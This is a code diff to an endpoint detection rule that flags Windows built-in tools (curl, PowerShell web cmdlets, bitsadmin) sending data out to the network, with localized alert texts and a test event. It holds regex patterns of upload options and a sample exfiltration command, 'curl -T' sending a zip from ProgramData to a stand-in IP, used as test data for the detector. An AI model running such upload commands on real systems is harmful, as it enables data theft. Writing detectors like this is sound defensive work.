@@ -30,6 +30,9 @@ const IN_MEMORY =
 /** A decoder that turns text into a program. */
 const DECODES = /\bcertutil(?:\.exe)?["']?\s+.{0,40}-(?:decode|decodehex)\b/i
 const ENCODES = /\bcertutil(?:\.exe)?["']?\s+.{0,40}-encode(?:hex)?\b/i
+/** Options that send a file or form instead of fetching one. */
+const SENDS =
+  /\bcurl(?:\.exe)?\b.{0,400}\s(?:-T|--upload-file|-F|--form|--data-binary|-d)\s|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b.{0,400}-(?:infile|body)\b|uploadfile\(|uploaddata\(|\bbitsadmin\b.{0,80}\/upload\b/is
 /** Addresses of the maker or of the machine itself. */
 const OWN_HOSTS =
   /^(?:localhost|127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\[?::1)|(?:^|\.)(?:microsoft|windowsupdate|windows|office|msftconnecttest|adobe|google|gvt1|mozilla)\.(?:com|net|org)$/i
@@ -40,7 +43,7 @@ const rule: Rule = {
   id: 'process.lolbin',
   order: 37,
   relations: [],
-  detections: ['download', 'proxy', 'loaded', 'decoded'],
+  detections: ['download', 'upload', 'proxy', 'loaded', 'decoded'],
   scope: 'endpoint',
   attack: [
     'T1105',
@@ -53,6 +56,7 @@ const rule: Rule = {
     'T1140',
     'T1127.001',
     'T1220',
+    'T1048',
   ],
   texts: {
     en: {
@@ -63,12 +67,14 @@ const rule: Rule = {
       falsePositives:
         'Software deployment and administrators download with curl and PowerShell; alone that weighs little. Some vendors install with regsvr32 and rundll32 from temporary folders.',
       'detection.download': 'A tool of Windows downloaded from the network',
+      'detection.upload': 'A tool of Windows sent data to the network',
       'detection.proxy': 'A tool of Windows ran foreign code',
       'detection.loaded': 'A loader of Windows ran a file from an odd folder',
       'detection.decoded': 'A tool of Windows turned text into a file',
       'reason.cradle': '{program} fetches {url} and runs what comes, without a file in between.',
       'reason.odd_fetcher': '{program} fetches {url}; it is not made for downloads.',
       'reason.fetcher': '{program} fetches {url}.',
+      'reason.upload': '{program} sends data to {url}.',
       'reason.proxy': '{program} was called in a way that makes it run foreign code: {command}',
       'reason.loaded': '{program} was told to run {file}, which lies where nothing is installed.',
       'reason.share': '{program} was told to run {file} from another machine.',
@@ -84,12 +90,14 @@ const rule: Rule = {
       falsePositives:
         '軟體派送與管理員也會用 curl 與 PowerShell 下載，單獨出現時嚴重性不高。部分廠商會以 regsvr32 與 rundll32 從暫存資料夾安裝。',
       'detection.download': 'Windows 工具從網路下載',
+      'detection.upload': 'Windows 工具將資料傳送至網路',
       'detection.proxy': 'Windows 工具執行外來程式碼',
       'detection.loaded': 'Windows 載入程式執行了異常資料夾中的檔案',
       'detection.decoded': 'Windows 工具在文字與檔案之間轉換編碼',
       'reason.cradle': '{program} 取得 {url} 並直接執行內容，過程中不落地為檔案。',
       'reason.odd_fetcher': '{program} 取得 {url}；它並非用來下載的程式。',
       'reason.fetcher': '{program} 取得 {url}。',
+      'reason.upload': '{program} 將資料傳送至 {url}。',
       'reason.proxy': '{program} 的呼叫方式會使其執行外來程式碼：{command}',
       'reason.loaded': '{program} 受命執行 {file}，該檔案位於不會安裝軟體的資料夾。',
       'reason.share': '{program} 受命執行位於其他電腦的 {file}。',
@@ -105,6 +113,7 @@ const rule: Rule = {
       falsePositives:
         'ソフトウェア配布や管理者も curl や PowerShell でダウンロードするため、それだけでは重く見ません。一時フォルダーから regsvr32 や rundll32 でインストールする製品もあります。',
       'detection.download': 'Windows のツールがネットワークからダウンロードした',
+      'detection.upload': 'Windows のツールがネットワークへデータを送信した',
       'detection.proxy': 'Windows のツールが外部のコードを実行した',
       'detection.loaded': 'Windows のローダーが不自然なフォルダーのファイルを実行した',
       'detection.decoded': 'Windows のツールがテキストとファイルを相互に変換した',
@@ -112,6 +121,7 @@ const rule: Rule = {
       'reason.odd_fetcher':
         '{program} が {url} から取得します。本来ダウンロード用のプログラムではありません。',
       'reason.fetcher': '{program} が {url} から取得します。',
+      'reason.upload': '{program} が {url} にデータを送信します。',
       'reason.proxy': '{program} が、外部のコードを実行させる形で呼び出されました：{command}',
       'reason.loaded':
         '{program} が、通常ソフトウェアを置かないフォルダーの {file} を実行するよう命じられました。',
@@ -155,6 +165,11 @@ const rule: Rule = {
           pid: 9,
           commandLine: 'certutil -decode C:\\x\\a.txt C:\\x\\a.exe',
         }),
+        exampleEvent('process-start', 5, {
+          processPath: 'C:\\Windows\\System32\\curl.exe',
+          pid: 12,
+          commandLine: 'curl -T C:\\ProgramData\\a.zip https://203.0.113.9/u',
+        }),
       ],
       finds: [
         '!download: powershell.exe',
@@ -163,6 +178,7 @@ const rule: Rule = {
         '!loaded: rundll32.exe',
         '!loaded: mshta.exe',
         '!decoded: certutil.exe',
+        '!upload: curl.exe',
       ],
     },
   ],
@@ -254,6 +270,10 @@ function* judge(process: ProcessFact, event: ViewEvent, directory: string | unde
     const page = urlEntity(download.url)
     const host = page?.attributes?.['host']
     if (!page || typeof host !== 'string' || OWN_HOSTS.test(host)) continue
+    if (SENDS.test(text)) {
+      yield found('upload', 'medium', 0.65, 'upload', { url: page.name }, page)
+      continue
+    }
     const kind = kindOf(stem, text, download)
     const find = found('download', LEVELS[kind], kind === 'plain' ? 0.5 : 0.88, REASONS[kind], {
       url: page.name,
